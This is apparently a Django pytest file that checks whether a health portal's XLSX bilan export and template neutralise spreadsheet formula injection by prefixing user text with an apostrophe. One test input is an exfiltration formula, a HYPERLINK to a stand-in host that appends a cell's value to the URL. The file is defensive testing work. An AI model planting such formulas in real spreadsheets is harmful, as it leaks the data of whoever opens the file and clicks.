"""The bilan XLSX (export and template) carries what the ES typed as text, never as a live formula
(care_portal.core.exports): the ARS opening it runs nothing; the amounts stay numbers."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from objectifs.models import Objectif
from tests.candidatures.test_views import se_connecter

from .donnees import ajouter

pytestmark = pytest.mark.django_db

PIEGE = '=HYPERLINK("http://exemple.invalid/?"&C3,"Justificatif")'


def test_export_du_bilan_neutralise(client, declaration):
    d, referent, ars = declaration
    textes = [PIEGE, "+33 6 12 34 56 78", "-2", "@SUM(A1)", "\t=x", "\r=x"]
    for texte in textes:
        ajouter(d, referent, libelle=texte, fournisseur=texte)
    assert d.lignes.filter(libelle=PIEGE).exists()  # the form keeps what the user typed
    se_connecter(client, ars)
    reponse = client.get(reverse("declarations:exporter_xlsx", args=[d.pk]))
    assert reponse.status_code == 200
    ws = load_workbook(io.BytesIO(reponse.content))["Bilan"]
    rangees = list(ws.iter_rows(min_row=2))
    saisis = [t.strip() for t in textes]  # the line service trims the whitespace around a label
    assert [r[2].value for r in rangees] == ["'" + t for t in saisis]
    assert [r[3].value for r in rangees] == ["'" + t for t in saisis]
    assert all(r[2].data_type == "s" and r[5].data_type == "n" for r in rangees)
    assert float(rangees[0][5].value) == 1000.0


def test_modele_du_bilan_neutralise(client, declaration):
    d, referent, _ = declaration
    Objectif.objects.filter(code="D1.O1.A").update(titre="=1+1")
    se_connecter(client, referent)
    reponse = client.get(reverse("declarations:modele_xlsx", args=[d.pk]))
    assert reponse.status_code == 200
    aide = load_workbook(io.BytesIO(reponse.content))["Aide"]
    titres = {r[1] for r in aide.iter_rows(values_only=True) if len(r) > 1}
    assert "'=1+1" in titres and "=1+1" not in titres
